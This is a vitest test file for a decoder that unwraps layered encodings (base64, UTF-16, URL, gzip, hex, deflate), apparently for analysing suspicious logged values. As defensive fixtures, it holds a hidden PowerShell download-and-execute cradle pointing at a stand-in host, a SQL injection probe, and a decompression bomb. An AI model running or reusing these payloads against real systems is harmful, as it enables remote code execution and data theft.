import { gzipSync, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { MOST_OUT, decode, isDecodable } from './decode';

const b64 = (data: Buffer | string) => Buffer.from(data).toString('base64');
const best = async (value: string) => (await decode(value))[0];

describe('decode', () => {
  it('reads a PowerShell command out of its command line', async () => {
    const command = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')";
    const line = `powershell.exe -NoP -W Hidden -EncodedCommand ${b64(Buffer.from(command, 'utf16le'))}`;
    expect(await best(line)).toEqual({ steps: ['base64', 'utf16'], text: command, isBinary: false, isTruncated: false });
    expect(isDecodable(line)).toBe(true);
  });

  it('takes one off after the other', async () => {
    const inner = 'đã lấy được tệp mật khẩu';
    const value = encodeURIComponent(b64(gzipSync(b64(inner))));
    expect(await best(value)).toMatchObject({ steps: ['url', 'base64', 'gzip', 'base64'], text: inner });
    expect(await best(Buffer.from(deflateSync('ba lần rồi')).toString('hex'))).toMatchObject({ steps: ['hex', 'deflate'], text: 'ba lần rồi' });
    expect(await best('/tin-tuc?id=1%20union%20select%201%2C2--')).toMatchObject({ steps: ['url'], text: '/tin-tuc?id=1 union select 1,2--' });
  });

  it('stops at its limit, however small the value is', async () => {
    const bomb = b64(gzipSync(Buffer.alloc(64 << 20, 'a'), { level: 9 }));
    expect(bomb.length).toBeLessThan(200_000);
    const found = await best(bomb);
    expect(found?.isTruncated).toBe(true);
    expect(found?.text.length).toBe(MOST_OUT);
  });

  it('says nothing where nothing is encoded', async () => {
    for (const value of ['', 'Đăng nhập sai mật khẩu', '10.60.31.7', 'C:\\Windows\\System32\\cmd.exe', '%zz%']) {
      expect(await decode(value), value).toEqual([]);
      expect(isDecodable(value), value).toBe(false);
    }
    expect(isDecodable('d41d8cd98f00b204e9800998ecf8427e')).toBe(false);
  });

  it('shows what a broken end leaves, and bytes as hex', async () => {
    const whole = gzipSync('một hai ba bốn năm sáu bảy tám chín mười '.repeat(400));
    expect((await best(b64(whole.subarray(0, whole.length - 12))))?.text).toContain('một hai ba');
    expect(await best('deadbeef00010203')).toMatchObject({ isBinary: true, text: 'de ad be ef 00 01 02 03' });
  });
});
